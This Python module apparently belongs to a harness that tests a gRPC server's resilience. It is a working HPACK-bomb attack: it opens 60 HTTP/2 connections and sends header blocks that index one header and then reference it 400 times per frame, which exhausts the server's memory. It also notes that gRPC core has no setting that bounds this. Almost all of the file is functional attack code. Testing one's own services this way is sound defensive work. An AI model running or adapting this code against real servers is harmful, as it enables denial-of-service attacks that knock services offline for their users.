"""Headers that are small on the wire and large in memory (RFC 7541, section 7.3)."""

from __future__ import annotations

import asyncio
from contextlib import AsyncExitStack

from attack import MIB, Attack, Target
from talk import (
    END_HEADERS,
    HEADERS,
    PREFACE,
    SETTINGS,
    Stranger,
    call,
    frame,
    literal,
    stranger,
)

MIB_SENT, QUICK_MIB_SENT = 6, 1
CONNECTIONS = 60
REFERENCES = 400
"""In each call, to one header; `MAX_HEADER_BYTES` counts each as 34."""


async def attack(target: Target) -> str:
    """Begins calls whose heads are full of the same header, and leaves them so."""
    each = (QUICK_MIB_SENT if target.quick else MIB_SENT) * MIB // CONNECTIONS
    async with AsyncExitStack() as stack:
        clients = [
            await stack.enter_async_context(stranger(target.grpc_port)) for _ in range(CONNECTIONS)
        ]
        sent = sum(await asyncio.gather(*(_begin_calls(client, each) for client in clients)))
        await asyncio.sleep(2)
    return f"{sent / MIB:.1f} MiB of references to one header"


async def _begin_calls(client: Stranger, limit: int) -> int:
    await client.send(PREFACE + frame(SETTINGS, 0, 0, b""))
    head = call(b"/greeter_service.v1.Greeter/SayHello")
    block = head + literal(b"x", b"y", indexed=True) + b"\xbe" * REFERENCES
    sent, stream = 0, 1
    while sent < limit and await client.send(frame(HEADERS, END_HEADERS, stream, block)):
        sent += len(block)
        stream += 2
        block = head + b"\xbe" * REFERENCES
    return sent


ATTACKS = [
    Attack(
        "an HPACK bomb on the gRPC port",
        attack,
        known="gRPC core's, without an option that bounds it: a proxy and a memory limit do",
    )
]
